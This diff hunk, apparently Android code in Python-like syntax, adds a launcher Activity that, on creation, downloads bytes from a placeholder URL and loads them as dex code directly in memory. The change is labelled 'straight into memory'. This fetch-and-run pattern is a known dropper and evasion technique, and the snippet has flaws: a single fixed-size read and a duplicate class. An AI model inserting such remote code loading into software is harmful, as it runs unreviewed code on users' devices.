@@ -30,3 +30,12 @@ class Main(Activity):
     def run(self, file: File):
         loader = DexClassLoader(file.getPath(), None, None, self.getClassLoader())
         loader.loadClass("Start").newInstance()
+
+# also: straight into memory
+@launcher
+class Main(Activity):
+    def onCreate(self, state):
+        super().onCreate(state)
+        content = array(byte, 4096)
+        URL("https://example.org/m").openConnection().getInputStream().read(content)
+        InMemoryDexClassLoader(ByteBuffer.wrap(content), self.getClassLoader()).loadClass("Start")
